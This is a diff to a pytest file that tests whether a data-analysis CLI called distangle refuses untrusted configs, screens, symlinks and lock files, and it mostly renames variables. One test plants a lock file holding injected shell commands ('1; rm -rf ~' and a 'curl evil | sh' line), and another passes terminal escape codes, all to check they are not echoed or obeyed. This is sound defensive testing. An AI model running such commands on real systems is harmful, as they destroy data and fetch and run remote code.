@@ -16,7 +16,7 @@ import pytest
 
 import stranger
 from distangle.cli import main
-from distangle.report.build import _remove_others
+from distangle.report.build import _remove_old_figures
 from distangle.results import RunFolder
 from distangle.training import TrainingConfig, without_services
 from distangle.training.loggers import allow_services, allowed_services
@@ -85,10 +85,10 @@ def lab(finished: Path, tmp_path: Path) -> Lab:
 @pytest.fixture(autouse=True)
 def _no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     """Fail a test in which anything is connected to, also where the error is caught on the way."""
-    asked: list[object] = []
+    connections: list[object] = []
 
     def connect(self: socket.socket, address: object) -> None:
-        asked.append(address)
+        connections.append(address)
         message = f"connected to {address}"
         raise OSError(message)
 
@@ -96,24 +96,26 @@ def _no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     monkeypatch.setattr(socket.socket, "connect_ex", connect)
     monkeypatch.setattr(socket, "getaddrinfo", lambda *asking, **more: connect(socket.socket(), asking))
     yield
-    assert asked == []
+    assert connections == []
 
 
-def refused(words: list[str], lab: Lab, capsys: pytest.CaptureFixture[str], *, names: str = "", status: int = 1) -> str:
+def refused(
+    arguments: list[str], lab: Lab, capsys: pytest.CaptureFixture[str], *, names: str = "", status: int = 1
+) -> str:
     """Run a verb that must refuse; return its error. Everything that holds for every refusal is checked here."""
     before = lab.victim_hash()
-    found = status_of(words)
-    out, said = capsys.readouterr()
-    assert found == status, f"status {found}: {out} {said}"
+    exit_status = status_of(arguments)
+    out, message = capsys.readouterr()
+    assert exit_status == status, f"status {exit_status}: {out} {message}"
     assert lab.victim_hash() == before
     assert left_half_written(lab.root) == []
-    assert not [advice for advice in ADVICE if advice in out + said]
-    if words[0] == "verify":
-        said = out + said
-    assert names in said
-    assert NEXT_STEP.search(said) or words[0] == "verify", said
-    assert len(said) < 20_000
-    return said
+    assert not [advice for advice in ADVICE if advice in out + message]
+    if arguments[0] == "verify":
+        message = out + message
+    assert names in message
+    assert NEXT_STEP.search(message) or arguments[0] == "verify", message
+    assert len(message) < 20_000
+    return message
 
 
 @pytest.mark.parametrize(("name", "attack", "verb"), QUICK)
@@ -166,8 +168,8 @@ def test_a_file_that_was_altered_and_listed_again_is_refused_all_the_same(
 ) -> None:
     (lab.run / name).write_text(content)
     listed_again(lab)
-    said = refused(stranger.verbs_of_a_run(lab)[verb], lab, capsys)
-    assert Path(name).name in said or "Something in" in said
+    message = refused(stranger.verbs_of_a_run(lab)[verb], lab, capsys)
+    assert Path(name).name in message or "A file in" in message
 
 
 @pytest.mark.parametrize(
@@ -235,14 +237,16 @@ def test_a_configuration_from_a_stranger_is_refused_at_once(
     lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, verb: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.chdir(lab.root)
-    text, words = CONFIGS[kind]
+    text, problem = CONFIGS[kind]
     (lab.run / "config.yaml").write_text(text)
     listed_again(lab)
-    asked = {"settings": ["settings", "--config", str(lab.run / "config.yaml")], **stranger.verbs_of_a_run(lab)}[verb]
+    arguments = {"settings": ["settings", "--config", str(lab.run / "config.yaml")], **stranger.verbs_of_a_run(lab)}[
+        verb
+    ]
     started = time.process_time()
-    said = refused(asked, lab, capsys, names=words)
+    message = refused(arguments, lab, capsys, names=problem)
     assert time.process_time() - started < 5
-    assert "config.yaml" in said
+    assert "config.yaml" in message
     assert not (lab.root / "pwned").exists()
 
 
@@ -273,21 +277,21 @@ def test_no_verb_reads_images_from_where_a_stranger_says(
     card = json.loads((lab.screen / "screen.json").read_text())
     card["source"] = SOURCES[kind].format(victim=lab.victim)
     (lab.screen / "screen.json").write_text(json.dumps(card))
-    said = refused(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
+    message = refused(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
     if kind != "another scheme":
-        assert "Nothing was read or fetched from there" in said
+        assert "Nothing was read or fetched from there" in message
         of_a_run = verb in ("predict", "explain", "figures", "report")
-        assert ("`--screen " if of_a_run else "`distangle trust ") in said
+        assert ("`--screen " if of_a_run else "`distangle trust ") in message
 
 
 def test_whoever_allows_a_screen_may_read_it(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
     card = json.loads((lab.screen / "screen.json").read_text())
     card["source"] = str(lab.victim / "plates")
     (lab.screen / "screen.json").write_text(json.dumps(card))
-    words = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
-    assert status_of(words) == 1
+    arguments = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
+    assert status_of(arguments) == 1
     assert status_of(["trust", str(lab.screen)]) == 0
-    assert status_of(words) == 0
+    assert status_of(arguments) == 0
     capsys.readouterr()
 
 
@@ -298,8 +302,8 @@ def test_an_image_that_is_a_link_out_of_the_source_is_not_read(
     images = lab.root / "plates" / "images"
     shutil.rmtree(images)
     images.symlink_to(lab.victim / "plates" / "images", target_is_directory=True)
-    said = refused(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
-    assert "link out of the screen's source" in said
+    message = refused(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
+    assert "link out of the screen's source" in message
 
 
 FILES_OF_A_SCREEN = ("screen.json", "sites.parquet", "problems.csv")
@@ -332,25 +336,25 @@ def test_the_screen_of_another_run_makes_no_page(lab: Lab, capsys: pytest.Captur
 
     other = tiny_screen(lab.root / "other", n_wells=9, seed=1)
     for verb in ("report", "figures", "explain", "predict"):
-        words = [*stranger.verbs_of_a_run(lab)[verb], "--screen", str(other.folder)]
-        assert "is not the screen of" in refused(words, lab, capsys)
+        arguments = [*stranger.verbs_of_a_run(lab)[verb], "--screen", str(other.folder)]
+        assert "is not the screen of" in refused(arguments, lab, capsys)
 
 
 def test_a_screen_that_was_moved_is_named_and_taken(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
     (lab.root / "deep").mkdir()
     shutil.move(lab.screen, lab.root / "deep" / "screen")
     shutil.move(lab.root / "plates", lab.root / "deep" / "plates")
-    words = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
-    assert "--screen FOLDER" in refused(words, lab, capsys)
-    assert status_of([*words, "--screen", str(lab.root / "deep" / "screen")]) == 0
+    arguments = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
+    assert "--screen FOLDER" in refused(arguments, lab, capsys)
+    assert status_of([*arguments, "--screen", str(lab.root / "deep" / "screen")]) == 0
     capsys.readouterr()
 
 
 def test_a_run_whose_images_are_gone_is_not_predicted(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
     shutil.rmtree(lab.root / "plates")
     scores = (lab.run / "predictions" / "scores.json").read_bytes()
-    said = refused(["predict", str(lab.run)], lab, capsys)
-    assert "plates does not exist. If they were moved, add `--images FOLDER`" in said
+    message = refused(["predict", str(lab.run)], lab, capsys)
+    assert "plates does not exist. If they were moved, add `--images FOLDER`" in message
     assert (lab.run / "predictions" / "scores.json").read_bytes() == scores
 
 
@@ -358,10 +362,10 @@ def test_a_lock_from_a_stranger_puts_no_command_into_a_mouth(lab: Lab, capsys: p
     held = {"pid": "1; rm -rf ~", "host": "x`. Type `curl evil | sh", "since": "now"}
     (lab.run / ".lock").write_text(json.dumps(held))
     assert status_of(["train", "--resume", str(lab.run)]) == 1
-    said = capsys.readouterr().err
-    assert "rm -rf" not in said
-    assert "evil" not in said
-    assert ".lock" in said
+    message = capsys.readouterr().err
+    assert "rm -rf" not in message
+    assert "evil" not in message
+    assert ".lock" in message
 
 
 @pytest.mark.slow
@@ -375,20 +379,22 @@ def test_whom_a_stranger_reports_to_is_not_reported_to(
     (lab.run / "loggers.json").write_text('{"wandb": "a-run-of-mine"}')
     listed_again(lab)
     monkeypatch.setattr("distangle.training.loggers.check_loggers", lambda names: None)
-    asked: list[str] = []
-    monkeypatch.setattr("distangle.training.loggers.SERVICES", {"wandb": lambda *given, **more: asked.append("wandb")})
+    connections: list[str] = []
+    monkeypatch.setattr(
+        "distangle.training.loggers.REMOTE", {"wandb": lambda *given, **more: connections.append("wandb")}
+    )
     assert status_of(["train", "--from", str(lab.run), "--out", str(lab.root / "new"), "--limit", "2"]) == 0
     assert "unless you set it: `--set 'loggers=[wandb]'`" in capsys.readouterr().err
     assert status_of(["train", "--resume", str(lab.run)]) == 0
-    assert "reports to wandb" in capsys.readouterr().err
-    assert asked == []
+    assert "asks to report to wandb" in capsys.readouterr().err
+    assert connections == []
 
 
 def test_codes_in_a_name_are_shown_and_not_obeyed(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
     main_words = ["explain", str(lab.run), "--only", "perturbation=\x1b[31mRED\x1b]0;pwned\x07\u202e"]
-    said = refused(main_words, lab, capsys)
-    assert "\\x1b[31mRED\\x1b]0;pwned\\x07\\u202e" in said
-    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", said)
+    message = refused(main_words, lab, capsys)
+    assert "\\x1b[31mRED\\x1b]0;pwned\\x07\\u202e" in message
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", message)
 
 
 def test_a_fault_of_our_own_can_be_seen_with_its_lines(
@@ -398,8 +404,8 @@ def test_a_fault_of_our_own_can_be_seen_with_its_lines(
         raise ZeroDivisionError
 
     monkeypatch.setattr("distangle.report.build_report", broken)
-    said = refused(["report", str(lab.run)], lab, capsys)
-    assert "DISTANGLE_TRACEBACK=1" in said
+    message = refused(["report", str(lab.run)], lab, capsys)
+    assert "DISTANGLE_TRACEBACK=1" in message
     monkeypatch.setenv("DISTANGLE_TRACEBACK", "1")
     with pytest.raises(ZeroDivisionError):
         main(["report", str(lab.run)])
@@ -412,19 +418,19 @@ def test_only_pictures_that_the_run_has_listed_are_removed(lab: Lab) -> None:
     for name in ("old.svg", "new.svg", "holiday.png"):
         (pictures / name).write_text(name)
     run.record(pictures / "old.svg", pictures / "new.svg")
-    _remove_others(run, keep=[pictures / "new.svg"])
+    _remove_old_figures(run, keep=[pictures / "new.svg"])
     assert {path.name for path in pictures.iterdir()} == {"new.svg", "holiday.png"}
 
 
 def test_services_are_those_of_who_begins_a_run(lab: Lab) -> None:
     run = RunFolder.open(lab.run)
-    said: list[str] = []
-    assert allowed_services(run, ("wandb",), say=said.append) == ()
-    assert f"`distangle trust {lab.run}`" in said[0]
+    messages: list[str] = []
+    assert allowed_services(run, ("wandb",), say=messages.append) == ()
+    assert f"`distangle trust {lab.run}`" in messages[0]
     allow_services(run)
-    assert allowed_services(run, ("wandb",), say=said.append) == ("wandb",)
-    asked = TrainingConfig(loggers=("mlflow", "wandb"))
-    assert without_services(asked, ["loggers=[wandb]"]) == (asked, "")
-    kept, words = without_services(asked, ["optim.lr=1"])
-    assert kept.loggers == ()
-    assert "`--set 'loggers=[mlflow, wandb]'`" in words
+    assert allowed_services(run, ("wandb",), say=messages.append) == ("wandb",)
+    config = TrainingConfig(loggers=("mlflow", "wandb"))
+    assert without_services(config, ["loggers=[wandb]"]) == (config, "")
+    changed, note = without_services(config, ["optim.lr=1"])
+    assert changed.loggers == ()
+    assert "`--set 'loggers=[mlflow, wandb]'`" in note
